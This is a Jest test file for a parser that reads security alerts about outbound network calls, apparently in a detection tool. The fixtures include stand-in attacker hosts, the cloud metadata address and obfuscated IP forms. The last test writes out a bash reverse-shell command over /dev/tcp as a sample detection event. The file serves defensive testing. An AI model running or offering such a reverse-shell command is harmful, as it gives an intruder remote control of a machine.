import { readFileSync } from 'node:fs';
import { expect, it } from '@jest/globals';
import { payloadOf, read } from './harness.ts';

const rows = readFileSync(new URL('./inputs/endpoints.ndjson', import.meta.url), 'utf8')
  .trim()
  .split('\n');

it('reads hosts and ports in many forms', () => {
  const seen = rows
    .map((row) => read(row))
    .filter(({ id }) => id === 'New-Outbound-Network-Call')
    .map(({ endpoint }) => [endpoint?.raw, endpoint?.address, endpoint?.port]);
  expect(seen).toEqual([
    ['evil.example.com.:443', 'evil.example.com', 443],
    ['https://evil.example.com/path', 'evil.example.com', undefined],
    ['EVIL.Example.com:443', 'evil.example.com', 443],
    ['169.254.169.254:80', '169.254.169.254', 80],
    ['[2606:4700::1111]:443', '2606:4700::1111', 443],
    ['2606:4700::1111', '2606:4700::1111', undefined],
    ['xn--bcher-kva.example:443', 'xn--bcher-kva.example', 443],
    ['bücher.example:443', 'xn--bcher-kva.example', 443],
    ['*.evil.example:443', undefined, undefined],
    ['evil.example.com:443/tcp', 'evil.example.com', 443],
    ['10.0.0.5', '10.0.0.5', undefined],
    ['_acme.evil.example.', '_acme.evil.example', undefined],
    ['evil.example.com:https', 'evil.example.com', undefined],
  ]);
});

it('reads the parts of URLs', () => {
  const seen = rows.map((row) => read(row)).flatMap(({ http }) => (http === undefined ? [] : [http]));
  expect(seen).toMatchObject([
    {
      full: expect.stringMatching(/^https:\/\/evil\.example\.com:8443\/a\?token=\[REDACTED[^\]]*\]&x=1#f$/),
      path: '/a',
      fragment: 'f',
      port: 8_443,
    },
    { full: 'https://evil.example.com/a', path: '/a', domain: 'evil.example.com' },
    { full: 'https://gist.github.com/gists' },
  ]);
});

it.each(['CONNECT', 'connect'])('%s names a host, not a path', (method) => {
  const call = payloadOf('HTTPS-Outbound-Network-Call', { method, host: 'evil.x:443', path: 'evil.x:443' });
  const { full, original, path } = read(call).http ?? {};
  expect([full, original, path]).toEqual(['https://evil.x:443', 'evil.x:443', undefined]);
});

it.each(['0xcb007109', '0xCB.0.0x71.9', '3405803785', '203.0.113'])('%s is not a domain', (host) => {
  expect(read(payloadOf('New-Outbound-Network-Call', { endpoint: `${host}:443` }))).toMatchObject({
    endpoint: { raw: `${host}:443`, domain: undefined, ip: undefined },
    warnings: ['endpoint_not_a_host'],
  });
  const exec = { exe: '/bin/bash', arguments: ['bash', '-c', `bash -i >& /dev/tcp/${host}/4444 0>&1`] };
  expect(read(payloadOf('Reverse-Shell', { process_events: [exec] })).endpoint).toBeUndefined();
});
